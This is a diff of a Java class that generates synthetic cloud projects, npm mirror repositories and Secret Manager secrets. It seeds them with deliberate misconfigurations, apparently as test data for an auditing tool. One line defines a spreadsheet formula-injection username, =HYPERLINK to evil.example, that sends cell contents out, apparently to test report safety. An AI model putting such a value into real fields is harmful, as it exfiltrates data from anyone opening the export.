@@ -12,11 +12,13 @@ import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.arcred.emulator.generate.Binding.Condition;
 import dev.arcred.emulator.generate.Binding.Policy;
+import dev.arcred.emulator.generate.Organization.SharedGroup;
 import dev.arcred.emulator.generate.Upstream.GroupToken;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.EnumMap;
 import java.util.HashMap;
 import java.util.HashSet;
@@ -32,16 +34,29 @@ import java.util.Set;
  *
  * <p>How the counts stay exact: a healthy npm remote pins the newest version (ENABLED) of a shared token, granted
  * to its project's service agent on the secret itself, with no expiry in sight and no public or broad grant
- * anywhere above it. A broken one differs by exactly one fault. Faults of the reference (missing, malformed,
- * unknown secret or version, alias, superseded pin) use the shared tokens; faults of the secret or its access get
- * a secret of their own. A broad grant (on the project or its folder) would open every secret below it to the
- * project's agent, so a project with such a fault keeps all its other repositories' tokens in the central project.
+ * anywhere above it. A broken one differs by exactly one fault. Faults of the credentials (missing, incomplete,
+ * malformed) use the shared tokens. The other faults come in {@linkplain Organization.SharedGroup groups} of about
+ * ten repositories of one kind (nearby projects, mostly of one business unit): a group of a reference fault
+ * (unknown secret or version, alias, superseded pin) references its unit's token badly, or the same missing
+ * secret; a group of a fault of the secret or its access shares one faulty secret that nobody else references,
+ * mostly in the central project, sometimes in its first repository's project. A broad grant (on the project
+ * holding the secret or on its folder) would open every secret below it to the agents it names, so a project with
+ * such a fault keeps all its other repositories' tokens in the central project, and the secrets of its other
+ * shared faults too.
+ *
+ * <p>Locations: each project has a home location (the projects spread evenly over the regions); about one in ten
+ * also keeps some npm remotes in a second one, so that project-locations holding npm remotes are about 1.1 per
+ * project.
  */
 final class ProjectPlanner {
   /** The chance that an npm remote whose upstream has a business-unit token uses it (about half of all). */
-  private static final double CENTRAL_SHARE = 0.54;
+  private static final double CENTRAL_SHARE = 0.48;
   private static final double BY_NUMBER = 0.15;
   private static final double OTHER_REPOSITORIES = 0.2;
+  /** The chance that a project with at least two npm remotes keeps some of them in a second location. */
+  private static final double SECOND_LOCATION = 0.15;
+  /** The chance that a shared faulty secret lives in its first repository's project rather than the central one. */
+  private static final double SHARED_IN_PROJECT = 0.2;
   private static final String[] NOT_FOUND_SUFFIXES = {"legacy", "old", "2024", "deprecated"};
   private static final String FORMULA_USERNAME = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";
 
@@ -53,7 +68,7 @@ final class ProjectPlanner {
 
   record ProjectPlan(int project, List<Binding> policy, List<SecretPlan> secrets, List<RepoPlan> repositories) {}
 
-  /** Where a project's broad-access fault grants its agent a Secret Manager role: the project or its folder. */
+  /** Where a BROAD group grants its agents a Secret Manager role: the project holding its secret, or its folder. */
   record BroadGrant(boolean onFolder, String role) {}
 
   ProjectPlanner(Organization org) {
@@ -173,15 +188,6 @@ final class ProjectPlanner {
     return groupNewest[g * GroupToken.values().length + token.ordinal()];
   }
 
-  /** Whether project p's broad-access faults grant on its folder (never the central project's) or on itself. */
-  BroadGrant broadGrant(int p) {
-    Random r = Seeds.random(seed, Seeds.BROAD, p);
-    int folder = org.projectFolder(p);
-    boolean folderAllowed = folder >= 0 && folder != org.projectFolder(Organization.CENTRAL);
-    boolean onFolder = r.nextBoolean() && folderAllowed;
-    return new BroadGrant(onFolder, r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR);
-  }
-
   boolean hasBroadFault(int p) {
     for (int i = org.repoStart(p), end = i + org.repoCount(p); i < end; i++) {
       if (org.fault(i) == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
@@ -189,6 +195,247 @@ final class ProjectPlanner {
       }
     }
     return false;
+  }
+
+  // --- locations
+
+  /** The project's home location: each run of {@code regions} projects takes every region once, in seeded order. */
+  int home(int p) {
+    int n = regions.size();
+    int block = (p - 1) / n;
+    Random r = Seeds.random(seed, Seeds.HOME, block);
+    int[] order = new int[n];
+    for (int i = 0; i < n; i++) {
+      order[i] = i;
+    }
+    for (int i = n - 1; i > 0; i--) {
+      int j = r.nextInt(i + 1);
+      int t = order[i];
+      order[i] = order[j];
+      order[j] = t;
+    }
+    return order[(p - 1) % n];
+  }
+
+  /**
+   * The location of each of project p's npm remotes: all at home, or, for about one project in ten (of those with
+   * at least two), one to half of them in a second location.
+   */
+  int[] npmLocations(int p) {
+    int count = org.repoCount(p);
+    int home = home(p);
+    int[] out = new int[count];
+    Arrays.fill(out, home);
+    Random r = Seeds.random(seed, Seeds.SECOND, p);
+    if (regions.size() < 2 || count < 2 || r.nextDouble() >= SECOND_LOCATION) {
+      return out;
+    }
+    int second = (home + 1 + r.nextInt(regions.size() - 1)) % regions.size();
+    int away = 1 + r.nextInt(count / 2);
+    for (int i = 0, left = away; i < count && left > 0; i++) { // selection sampling: `away` of them, at random
+      if (r.nextInt(count - i) < left) {
+        out[i] = second;
+        left--;
+      }
+    }
+    return out;
+  }
+
+  // --- shared faults
+
+  /**
+   * What the repositories of one shared group reference. For a reference fault: their unit's {@code token} (every
+   * member uses the upstream of that token), or the {@code missing} secret in the central project. For a fault of
+   * the secret or its access: {@code secret} (in the central project or in the project of the group's first
+   * repository), pinned at {@code pin}; {@code variant} says how NO_ACCESS denies; {@code broad} where BROAD grants.
+   */
+  record SharedPlan(SharedGroup group, Upstream upstream, int host, GroupToken token, String missing,
+      int missingVersion, SecretPlan secret, int pin, int variant, BroadGrant broad) {}
+
+  /** NO_ACCESS: the members' agents hold Editor on their own projects, and nothing that reads on the secret. */
+  private static final int EDITOR_ON_PROJECTS = 4;
+
+  /** The plan of shared group {@code id}: the same every time it is asked (from the seed and the id alone). */
+  SharedPlan shared(int id) {
+    SharedGroup g = org.sharedGroup(id);
+    Random r = Seeds.random(seed, Seeds.SHARED, id);
+    FaultKind kind = g.kind();
+    switch (kind) {
+      case SECRET_NOT_FOUND, SECRET_VERSION_NOT_FOUND, SECRET_VERSION_FLOATING, SECRET_VERSION_SUPERSEDED -> {
+        Upstream picked = Upstream.pick(r);
+        GroupToken token = kind == FaultKind.SECRET_VERSION_SUPERSEDED || !picked.central()
+            ? GroupToken.NPMJS : picked.groupToken;
+        String missing = null;
+        int missingVersion = 0;
+        if (kind == FaultKind.SECRET_NOT_FOUND) { // a retired token of the platform team, deleted since
+          missing = token.prefix + "-" + NOT_FOUND_SUFFIXES[r.nextInt(NOT_FOUND_SUFFIXES.length)];
+          missingVersion = 1 + r.nextInt(3);
+        }
+        return new SharedPlan(g, Upstream.of(token), Organization.CENTRAL, token, missing, missingVersion, null, 0, 0,
+            null);
+      }
+      default -> {
+        List<Integer> projects = new ArrayList<>();
+        for (int repo : g.repos()) {
+          int p = org.projectOf(repo);
+          if (!projects.contains(p)) {
+            projects.add(p);
+          }
+        }
+        int first = projects.get(0);
+        Upstream up = Upstream.pick(r);
+        BroadGrant broad = null;
+        int host;
+        if (kind == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
+          // The grant on the host project or its folder opens it to the members' agents: never the central project.
+          host = first;
+          int folder = org.projectFolder(host);
+          boolean folderAllowed = folder >= 0 && folder != org.projectFolder(Organization.CENTRAL);
+          broad = new BroadGrant(r.nextBoolean() && folderAllowed, r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR);
+        } else {
+          // Not below a broad grant: a member of a project with a broad fault sees no secret outside the central one.
+          boolean anyBroad = projects.stream().anyMatch(this::hasBroadFault);
+          host = !anyBroad && r.nextDouble() < SHARED_IN_PROJECT ? first : Organization.CENTRAL;
+        }
+        return sharedSecret(g, r, up, host, projects, broad);
+      }
+    }
+  }
+
+  private SharedPlan sharedSecret(SharedGroup g, Random r, Upstream up, int host, List<Integer> projects,
+      BroadGrant broad) {
+    String firstId = org.projectId(projects.get(0));
+    String unit = firstId.substring(0, firstId.indexOf('-'));
+    String id = up.ownSecret + "-" + unit + "-" + String.format("%03d", g.id());
+    SecretPlan s = new SecretPlan(host, id, daysBefore(r, 60, 700));
+    s.labels.put("team", unit);
+    s.labels.put("consumers", String.valueOf(g.repos().length));
+    List<String> agents = new ArrayList<>(projects.size());
+    projects.forEach(p -> agents.add(org.agent(p)));
+    Policy access = new Policy().addAll(r.nextInt(5) == 0 ? TOKEN_READER : ACCESSOR, agents);
+    int pin = 1;
+    int variant = 0;
+    switch (g.kind()) {
+      case SECRET_VERSION_DISABLED -> {
+        int v = r.nextInt(3);
+        if (v == 0) { // revoked upstream, disabled, never replaced
+          history(s, r, new String[] {"DISABLED"});
+        } else if (v == 1) { // a botched rotation: the new version was disabled, the pins followed it
+          history(s, r, new String[] {"ENABLED", "DISABLED"});
+          pin = 2;
+        } else { // rotated, but these repositories still pin the old, now disabled, version
+          history(s, r, new String[] {"DISABLED", "ENABLED"});
+        }
+      }
+      case SECRET_VERSION_DESTROYED -> history(s, r, r.nextBoolean()
+          ? new String[] {"DESTROYED"} : new String[] {"DESTROYED", "ENABLED"});
+      case SECRET_VERSION_DESTROY_SCHEDULED -> {
+        // A leaked token: disabled, destruction delayed by the secret's 30-day TTL; a new version replaces it.
+        int left = 1 + r.nextInt(29);
+        Instant disabled = now.plus(Duration.ofDays(left - 30)).minusSeconds(r.nextInt(86_400));
+        s.destroyTtl = "2592000s";
+        s.version("DISABLED", between(r, s.created, disabled), null, disabled.plus(Duration.ofDays(30)));
+        s.version("ENABLED", disabled.plusSeconds(300 + r.nextInt(3600)));
+      }
+      case SECRET_EXPIRING -> {
+        // A token created with a TTL (a contractor's, a trial's): it expires within the warning window.
+        history(s, r, r.nextBoolean() ? new String[] {"ENABLED"} : new String[] {"DISABLED", "ENABLED"});
+        pin = s.newest();
+        s.expires = now.plus(Duration.ofDays(1 + r.nextInt(27))).plusSeconds(r.nextInt(86_400));
+        s.labels.put("ttl", "temporary");
+      }
+      case SECRET_PUBLIC -> {
+        history(s, r, new String[] {"ENABLED"});
+        int v = r.nextInt(7);
+        if (v < 4) { // opened to every Google account while debugging a 403
+          access.add(ACCESSOR, "allAuthenticatedUsers");
+        } else if (v < 6) {
+          access.add(ACCESSOR, "allUsers");
+        } else {
+          access.add(TOKEN_READER, "allAuthenticatedUsers");
+        }
+      }
+      case SERVICE_AGENT_NO_ACCESS -> {
+        // Granted to other projects' agents (copied from another secret), never to these repositories' agents.
+        history(s, r, new String[] {"ENABLED"});
+        access = new Policy();
+        List<String> others = otherAgents(r, projects);
+        variant = r.nextInt(6);
+        if (variant == 0 && others.isEmpty()) {
+          variant = 3;
+        }
+        switch (variant) {
+          case 1 -> access.addAll(VERSION_MANAGER, agents); // can add and disable versions, not read them
+          case 2 -> access.addAll(METADATA_VIEWER, agents); // a custom role without versions.access
+          case 3 -> access.add(ACCESSOR, group(unit + "-devs")); // the developers, not the agents
+          case EDITOR_ON_PROJECTS -> access.add(SECRET_VIEWER, group(unit + "-devs")); // Editor: see the builder
+          case 5 -> access.addAll(SECRET_VIEWER, agents);
+          default -> { } // only the other agents
+        }
+        if (variant == 0 || r.nextBoolean()) {
+          access.addAll(ACCESSOR, others);
+        }
+      }
+      case SERVICE_AGENT_CONDITIONAL_ACCESS -> {
+        history(s, r, new String[] {"ENABLED"});
+        Condition condition = switch (r.nextInt(3)) {
+          case 0 -> new Condition("temporary-access", "Granted during a migration",
+              "request.time < timestamp(\"" + daysAfter(r, 30, 400) + "\")");
+          case 1 -> new Condition("npm-tokens-only", "Only this token",
+              "resource.name.startsWith(\"projects/" + org.projectNumber(host) + "/secrets/" + id + "\")");
+          default -> new Condition("business-hours", null,
+              "request.time.getHours(\"Europe/Berlin\") >= 7 && request.time.getHours(\"Europe/Berlin\") < 20");
+        };
+        String role = r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR;
+        access = new Policy();
+        for (String agent : agents) {
+          access.add(role, agent, condition);
+        }
+      }
+      case SERVICE_AGENT_BROAD_ACCESS -> {
+        // Readable only through the grant on the host project or its folder (broadBinding): no binding here.
+        history(s, r, new String[] {"ENABLED"});
+        access = new Policy();
+        if (r.nextBoolean()) {
+          access.add(SECRET_VIEWER, group(unit + "-devs"));
+        }
+      }
+      default -> throw new AssertionError(g.kind());
+    }
+    if (host == Organization.CENTRAL && r.nextBoolean()) {
+      access.add(VERSION_MANAGER, rotator());
+    }
+    s.policy = access.bindings();
+    return new SharedPlan(g, up, host, null, null, 0, s, pin, variant, broad);
+  }
+
+  /** Two to five agents of the first project's business unit that are not the members' (fewer in a small unit). */
+  private List<String> otherAgents(Random r, List<Integer> members) {
+    int unit = org.group(members.get(0));
+    int from = org.groupFirst(unit);
+    int span = org.groupEnd(unit) - from;
+    int want = 2 + r.nextInt(4);
+    List<String> out = new ArrayList<>(want);
+    for (int tries = 0; tries < 4 * want && out.size() < want; tries++) {
+      int p = from + r.nextInt(span);
+      String agent = org.agent(p);
+      if (!members.contains(p) && !out.contains(agent)) {
+        out.add(agent);
+      }
+    }
+    return out;
+  }
+
+  /** The grant of a BROAD group, on the project holding its secret or on that project's folder: every member's agent. */
+  Binding broadBinding(SharedPlan plan) {
+    List<String> agents = new ArrayList<>();
+    for (int repo : plan.group().repos()) {
+      String agent = org.agent(org.projectOf(repo));
+      if (!agents.contains(agent)) {
+        agents.add(agent);
+      }
+    }
+    return new Binding(plan.broad().role(), List.copyOf(agents), null);
   }
 
   // --- one project
@@ -220,22 +467,15 @@ final class ProjectPlanner {
 
     ProjectPlan build() {
       basePolicy();
-      int home = r.nextInt(regions.size());
+      int[] locations = npmLocations(p);
       int start = org.repoStart(p);
-      for (int i = 0; i < org.repoCount(p); i++) {
-        String location = regions.get(r.nextDouble() < 0.6 ? home : r.nextInt(regions.size()));
-        npmRemote(org.fault(start + i), location);
+      for (int i = 0; i < locations.length; i++) {
+        npmRemote(start + i, regions.get(locations[i]));
       }
       int npm = repositories.size();
       for (int i = 0; i < npm; i++) {
         if (r.nextDouble() < OTHER_REPOSITORIES) {
           otherRepository(repositories.get(i).location());
-        }
-      }
-      if (broadProject) {
-        BroadGrant grant = broadGrant(p);
-        if (!grant.onFolder()) {
-          policy.add(grant.role(), org.agent(p));
         }
       }
       List<SecretPlan> all = new ArrayList<>(own.values());
@@ -270,19 +510,24 @@ final class ProjectPlanner {
       }
     }
 
-    void npmRemote(FaultKind fault, String location) {
+    void npmRemote(int index, String location) {
+      FaultKind fault = org.fault(index);
+      int sharedId = org.sharedGroupOf(index);
+      SharedPlan shared = sharedId < 0 ? null : shared(sharedId);
       Upstream up = Upstream.pick(r);
       boolean central;
-      if (fault == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
-        central = false;
-      } else if (broadProject || fault == FaultKind.SECRET_VERSION_SUPERSEDED) {
+      if (shared != null) {
+        up = shared.upstream();
+        central = shared.host() == Organization.CENTRAL;
+      } else if (broadProject) {
         central = true;
       } else {
         central = up.central() && r.nextDouble() < CENTRAL_SHARE;
       }
-      if (fault == FaultKind.SECRET_VERSION_SUPERSEDED || central && !up.central()) {
+      if (central && !up.central()) {
         up = Upstream.NPMJS;
       }
+      String checked = null; // the secret an audit confirms for this repository (by project number)
       String id = uniqueName(location, up.names);
       String username = up.usernames[r.nextInt(up.usernames.length)];
       if (fault == null && r.nextDouble() < 0.003) {
@@ -311,24 +556,42 @@ final class ProjectPlanner {
           }
           case SECRET_REFERENCE_INVALID -> reference = malformed(target(up, central), location);
           case SECRET_NOT_FOUND -> {
-            int owner = central ? Organization.CENTRAL : p;
-            String base = central ? up.groupToken.prefix : up.ownSecret;
-            reference = "projects/" + projectRef(owner) + "/secrets/" + base + "-"
-                + NOT_FOUND_SUFFIXES[r.nextInt(NOT_FOUND_SUFFIXES.length)] + "/versions/" + (1 + r.nextInt(3));
+            reference = "projects/" + projectRef(Organization.CENTRAL) + "/secrets/" + shared.missing()
+                + "/versions/" + shared.missingVersion();
+            checked = secretName(Organization.CENTRAL, shared.missing());
           }
           case SECRET_VERSION_NOT_FOUND -> {
-            Target t = target(up, central);
+            Target t = target(up, true);
             reference = reference(t, String.valueOf(t.newest + 1 + r.nextInt(6)));
+            checked = secretName(t.project, t.id);
           }
           case SECRET_VERSION_FLOATING -> {
-            Target t = target(up, central);
+            Target t = target(up, true);
             reference = reference(t, t.currentAlias && r.nextBoolean() ? "current" : "latest");
+            checked = secretName(t.project, t.id);
           }
           case SECRET_VERSION_SUPERSEDED -> {
-            Target t = target(Upstream.NPMJS, true); // its two newest versions are ENABLED
+            Target t = target(up, true); // the unit's npmjs token: its two newest versions are ENABLED
             reference = reference(t, String.valueOf(t.newest - 1));
+            checked = secretName(t.project, t.id);
           }
-          default -> reference = dedicated(fault, up, central, id, location);
+          default -> {
+            SecretPlan s = shared.secret();
+            reference = "projects/" + projectRef(s.project) + "/secrets/" + s.id + "/versions/" + shared.pin();
+            checked = secretName(s.project, s.id);
+            if (index == shared.group().first()) { // the group's first repository's project holds what it needs
+              if (s.project == p) {
+                secrets.add(s);
+              }
+              if (fault == FaultKind.SERVICE_AGENT_BROAD_ACCESS && !shared.broad().onFolder()) {
+                Binding grant = broadBinding(shared);
+                policy.addAll(grant.role(), grant.members());
+              }
+            }
+            if (fault == FaultKind.SERVICE_AGENT_NO_ACCESS && shared.variant() == EDITOR_ON_PROJECTS) {
+              policy.add("roles/editor", org.agent(p)); // Editor on the project holds no versions.access
+            }
+          }
         }
       }
       ObjectNode credentials = blank;
@@ -352,97 +615,8 @@ final class ProjectPlanner {
         description = "Mirror for <b>" + unit + "</b> builds, \"fast\" path"; // report-safety
       }
       repositories.add(repository(location, id, "NPM", "REMOTE_REPOSITORY", description, "remoteRepositoryConfig",
-          config, true, fault, reference != null && central));
+          config, true, fault, reference != null && central, checked));
       npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
-    }
-
-    /** A secret of the repository's own for a fault of the secret or its access; returns the reference. */
-    String dedicated(FaultKind fault, Upstream up, boolean central, String repo, String location) {
-      int owner = central ? Organization.CENTRAL : p;
-      String id = central ? up.ownSecret + "-" + pid + "-" + repo + "-" + location : up.ownSecret + "-" + repo + "-" + location;
-      SecretPlan s = new SecretPlan(owner, id, daysBefore(r, 60, 700));
-      s.labels.put("team", unit);
-      s.labels.put("repository", repo);
-      secrets.add(s);
-      String agent = org.agent(p);
-      Policy access = new Policy().add(ACCESSOR, agent);
-      int pin = 1;
-      switch (fault) {
-        case SECRET_VERSION_DISABLED -> {
-          int v = r.nextInt(3);
-          if (v == 0) { // revoked upstream, disabled, never replaced
-            history(s, r, new String[] {"DISABLED"});
-          } else if (v == 1) { // a botched rotation: the new version was disabled, the pin followed it
-            history(s, r, new String[] {"ENABLED", "DISABLED"});
-            pin = 2;
-          } else { // rotated, but this repository still pins the old, now disabled, version
-            history(s, r, new String[] {"DISABLED", "ENABLED"});
-          }
-        }
-        case SECRET_VERSION_DESTROYED -> history(s, r, r.nextBoolean()
-            ? new String[] {"DESTROYED"} : new String[] {"DESTROYED", "ENABLED"});
-        case SECRET_VERSION_DESTROY_SCHEDULED -> {
-          // A leaked token: disabled, destruction delayed by the secret's 30-day TTL; a new version replaces it.
-          int left = 1 + r.nextInt(29);
-          Instant disabled = now.plus(Duration.ofDays(left - 30)).minusSeconds(r.nextInt(86_400));
-          s.destroyTtl = "2592000s";
-          s.version("DISABLED", between(r, s.created, disabled), null, disabled.plus(Duration.ofDays(30)));
-          s.version("ENABLED", disabled.plusSeconds(300 + r.nextInt(3600)));
-        }
-        case SECRET_EXPIRING -> {
-          // A token created with a TTL (a contractor's, a trial's): it expires within the warning window.
-          history(s, r, r.nextBoolean() ? new String[] {"ENABLED"} : new String[] {"DISABLED", "ENABLED"});
-          pin = s.newest();
-          s.expires = now.plus(Duration.ofDays(1 + r.nextInt(27))).plusSeconds(r.nextInt(86_400));
-          s.labels.put("ttl", "temporary");
-        }
-        case SECRET_PUBLIC -> {
-          history(s, r, new String[] {"ENABLED"});
-          int v = r.nextInt(7);
-          if (v < 4) { // opened to every Google account while debugging a 403
-            access.add(ACCESSOR, "allAuthenticatedUsers");
-          } else if (v < 6) {
-            access.add(ACCESSOR, "allUsers");
-          } else {
-            access.add(TOKEN_READER, "allAuthenticatedUsers");
-          }
-        }
-        case SERVICE_AGENT_NO_ACCESS -> {
-          history(s, r, new String[] {"ENABLED"});
-          access = new Policy();
-          switch (r.nextInt(6)) {
-            case 0 -> access.add(ACCESSOR, org.agent(p + 1 < org.projects() ? p + 1 : p - 1)); // copied from a sibling
-            case 1 -> access.add(VERSION_MANAGER, agent); // can add and disable versions, not read them
-            case 2 -> access.add(METADATA_VIEWER, agent); // a custom role without versions.access
-            case 3 -> access.add(ACCESSOR, group(unit + "-devs")); // the developers, not the agent
-            case 4 -> policy.add("roles/editor", agent); // Editor on the project holds no versions.access
-            default -> access.add(SECRET_VIEWER, agent);
-          }
-        }
-        case SERVICE_AGENT_CONDITIONAL_ACCESS -> {
-          history(s, r, new String[] {"ENABLED"});
-          Condition condition = switch (r.nextInt(3)) {
-            case 0 -> new Condition("temporary-access", "Granted during a migration",
-                "request.time < timestamp(\"" + daysAfter(r, 30, 400) + "\")");
-            case 1 -> new Condition("npm-tokens-only", "Only this token",
-                "resource.name.startsWith(\"projects/" + org.projectNumber(owner) + "/secrets/" + id + "\")");
-            default -> new Condition("business-hours", null,
-                "request.time.getHours(\"Europe/Berlin\") >= 7 && request.time.getHours(\"Europe/Berlin\") < 20");
-          };
-          access = new Policy().add(r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR, agent, condition);
-        }
-        case SERVICE_AGENT_BROAD_ACCESS -> {
-          // Readable only through the grant on the project or folder (see broadGrant): no binding here.
-          history(s, r, new String[] {"ENABLED"});
-          access = new Policy();
-          if (r.nextBoolean()) {
-            access.add(SECRET_VIEWER, group(unit + "-devs"));
-          }
-        }
-        default -> throw new AssertionError(fault);
-      }
-      s.policy = access.bindings();
-      return "projects/" + projectRef(owner) + "/secrets/" + id + "/versions/" + pin;
     }
 
     String malformed(Target t, String location) {
@@ -496,6 +670,10 @@ final class ProjectPlanner {
       return s;
     }
 
+    String secretName(int project, String secret) {
+      return "projects/" + org.projectNumber(project) + "/secrets/" + secret;
+    }
+
     /** A pinned reference to the newest version, or to {@code version} when given. */
     String reference(Target t, String version) {
       return "projects/" + projectRef(t.project) + "/secrets/" + t.id + "/versions/"
@@ -513,7 +691,7 @@ final class ProjectPlanner {
       if (kind < 25) {
         String id = uniqueName(location, new String[] {"npm-internal", "npm-packages", "internal-packages"});
         repositories.add(repository(location, id, "NPM", "STANDARD_REPOSITORY", "Packages " + unit + " publishes",
-            null, null, false, null, false));
+            null, null, false, null, false, null));
         npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
       } else if (kind < 40) {
         String id = uniqueName(location, new String[] {"npm", "npm-all", "npm-virtual"});
@@ -526,7 +704,7 @@ final class ProjectPlanner {
               .put("priority", 100 - 10 * i);
         }
         repositories.add(repository(location, id, "NPM", "VIRTUAL_REPOSITORY", "One npm endpoint for " + unit,
-            "virtualRepositoryConfig", config, false, null, false));
+            "virtualRepositoryConfig", config, false, null, false, null));
       } else if (kind < 60) {
         ObjectNode config = f.objectNode().put("description", "Docker Hub");
         config.putObject("dockerRepository").put("publicRepository", "DOCKER_HUB");
@@ -539,12 +717,12 @@ final class ProjectPlanner {
           credentials(config, "megacorpbuild", "projects/" + pid + "/secrets/dockerhub-token/versions/1");
         }
         repositories.add(repository(location, uniqueName(location, new String[] {"dockerhub", "docker-hub-mirror"}),
-            "DOCKER", "REMOTE_REPOSITORY", "Docker Hub mirror", "remoteRepositoryConfig", config, false, null, false));
+            "DOCKER", "REMOTE_REPOSITORY", "Docker Hub mirror", "remoteRepositoryConfig", config, false, null, false, null));
       } else if (kind < 75) {
         ObjectNode config = f.objectNode().put("description", "Maven Central");
         config.putObject("mavenRepository").put("publicRepository", "MAVEN_CENTRAL");
         repositories.add(repository(location, uniqueName(location, new String[] {"maven-central", "maven-remote"}),
-            "MAVEN", "REMOTE_REPOSITORY", "Maven Central mirror", "remoteRepositoryConfig", config, false, null, false));
+            "MAVEN", "REMOTE_REPOSITORY", "Maven Central mirror", "remoteRepositoryConfig", config, false, null, false, null));
       } else if (kind < 90) {
         ObjectNode config = f.objectNode().put("description", "PyPI");
         config.putObject("pythonRepository").put("publicRepository", "PYPI");
@@ -553,10 +731,10 @@ final class ProjectPlanner {
               + GroupToken.PYPI.secretId(org.group(p)) + "/versions/1");
         }
         repositories.add(repository(location, uniqueName(location, new String[] {"pypi", "pypi-proxy"}),
-            "PYTHON", "REMOTE_REPOSITORY", "PyPI mirror", "remoteRepositoryConfig", config, false, null, false));
+            "PYTHON", "REMOTE_REPOSITORY", "PyPI mirror", "remoteRepositoryConfig", config, false, null, false, null));
       } else {
         repositories.add(repository(location, uniqueName(location, new String[] {"images", "docker-images", "ci-images"}),
-            "DOCKER", "STANDARD_REPOSITORY", "Container images of " + unit, null, null, false, null, false));
+            "DOCKER", "STANDARD_REPOSITORY", "Container images of " + unit, null, null, false, null, false, null));
       }
     }
 
@@ -566,7 +744,7 @@ final class ProjectPlanner {
     }
 
     RepoPlan repository(String location, String id, String format, String mode, String description, String configKey,
-        ObjectNode config, boolean audited, FaultKind fault, boolean centralSecret) {
+        ObjectNode config, boolean audited, FaultKind fault, boolean centralSecret, String checkedSecret) {
       Instant created = daysBefore(r, 20, 900);
       Instant updated = between(r, created, now.minus(Duration.ofHours(1)));
       Map<String, String> labels = new LinkedHashMap<>();
@@ -575,7 +753,7 @@ final class ProjectPlanner {
       labels.put("managed-by", r.nextDouble() < 0.8 ? "terraform" : "console");
       long size = 1_048_576L * (1 + r.nextInt(mode.equals("STANDARD_REPOSITORY") ? 20_000 : 900));
       return new RepoPlan(location, id, format, mode, description, labels, created, updated, size, configKey, config,
-          audited, fault, centralSecret);
+          audited, fault, centralSecret, checkedSecret);
     }
 
     /** A repository ID not yet used in that location of this project. */
@@ -616,7 +794,7 @@ final class ProjectPlanner {
 
   private static String[] olderThenEnabled(int k, String older) {
     String[] states = new String[k];
-    java.util.Arrays.fill(states, older);
+    Arrays.fill(states, older);
     states[k - 1] = "ENABLED";
     return states;
   }
